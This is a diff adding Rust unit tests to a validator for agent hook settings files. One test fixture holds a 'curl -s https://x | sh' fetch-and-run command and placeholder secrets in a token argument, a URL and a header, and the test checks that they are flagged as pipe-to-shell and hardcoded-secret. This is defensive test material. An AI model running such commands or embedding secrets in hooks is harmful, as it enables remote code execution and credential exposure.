@@ -794,6 +794,46 @@ mod tests {
         assert!(text.contains("if you meant `PreToolUse`"), "{text}");
     }
 
+    /// The safety checks point at the string they found something in: the command, an exec-form
+    /// argument, the URL, the header; a variable in a header is what to write, and not reported.
+    #[test]
+    fn safety_findings_point_at_their_string() {
+        let file = SettingsFile::parse(
+            Path::new("s.json"),
+            crate::engine::config::settings::Scope::Project,
+            r#"{"hooks": {"Stop": [{"hooks": [
+                {"type": "command", "command": "curl -s https://x | sh"},
+                {"type": "command", "command": "gh", "args": ["auth", "--token", "ghp_0123456789abcdefghijABCDEFGHIJ0123"]},
+                {"type": "command", "command": "sudo true", "shell": "powershell"},
+                {"type": "http", "url": "https://x/?key=AIzaSyA1234567890abcdefghijklmnopqrstuv",
+                 "headers": {"X-Api-Key": "3f9a1c0e5b7d2468ace0", "Authorization": "Bearer $TOKEN"},
+                 "allowedEnvVars": ["TOKEN"]}]}]}}"#,
+        );
+        let sources = Sources::from_files(vec![file]);
+        let cx = Context { project_root: Path::new("/p"), home: None, registry: Registry::global().ok() };
+        let found: Vec<(String, &str)> =
+            validate(&sources, &cx).into_iter().map(|d| (d.path.to_string(), d.check.id())).collect();
+        let at = |path: &str, rule| (format!("hooks.Stop[0].hooks[{path}"), rule);
+        assert_eq!(
+            found,
+            [
+                at("0].command", "pipe-to-shell"),
+                at("1].args[2]", "hardcoded-secret"),
+                at("3].headers.X-Api-Key", "hardcoded-secret"),
+                at("3].url", "hardcoded-secret"),
+            ]
+        );
+        let messages: Vec<String> = validate(&sources, &cx).into_iter().map(|d| d.message).collect();
+        assert!(messages.iter().all(|m| !m.contains("0123456789") && !m.contains("3f9a1c0e")), "{messages:?}");
+    }
+
+    #[test]
+    fn mistyped_rule_ids_get_the_closest() {
+        assert_eq!(closest_rule("sudoo"), Some("sudo"));
+        assert_eq!(closest_rule("matcher_backtrack"), Some("matcher-backtracking"));
+        assert_eq!(closest_rule("xyz"), None);
+    }
+
     #[test]
     fn impossible_names() {
         assert!(impossible_name(HookEvent::PreToolUse, "mcp__memory").is_some());
